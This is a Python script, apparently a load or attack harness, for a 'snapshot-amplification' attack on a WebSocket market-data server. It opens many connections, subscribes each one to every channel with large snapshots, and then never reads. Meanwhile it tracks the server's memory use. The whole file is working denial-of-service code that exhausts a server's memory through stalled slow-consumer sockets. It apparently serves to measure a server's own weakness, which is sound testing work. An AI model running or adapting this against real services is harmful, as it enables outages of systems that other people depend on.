#!/usr/bin/env python3
# Snapshot-amplification attack: N sockets send the op once, then read nothing.
# usage: amplify.py HOST PORT SERVER_PID N SECONDS
import base64, os, socket, struct, sys, time
host, port, pid, n, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
OP = b'{"op":"subscribe","channels":["ticks:*","bars.1s:*","bars.1m:*","indicators:*"],"snapshot":1024}'
def rss():
    for l in open(f"/proc/{pid}/status"):
        if l.startswith("VmRSS:"):
            return int(l.split()[1]) // 1024
def frame(payload):
    mask = os.urandom(4)
    body = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    return bytes([0x81, 0x80 | len(payload)]) + mask + body if len(payload) < 126 else \
        bytes([0x81, 0x80 | 126]) + struct.pack(">H", len(payload)) + mask + body
socks = []
print(f"rss before: {rss()} MB", flush=True)
t0 = time.time()
for _ in range(n):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect((host, port))
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(f"GET /ws HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
              f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
    resp = b""
    while b"\r\n\r\n" not in resp:
        resp += s.recv(1)
    assert b" 101 " in resp.split(b"\r\n")[0], resp
    s.sendall(frame(OP))
    socks.append(s)
peak = 0
while time.time() - t0 < secs:
    r = rss(); peak = max(peak, r)
    time.sleep(0.25)
print(f"peak rss with {n} stalled sockets: {peak} MB; at end {rss()} MB", flush=True)
for s in socks:
    s.close()
time.sleep(3)
print(f"rss 3 s after closing them: {rss()} MB", flush=True)
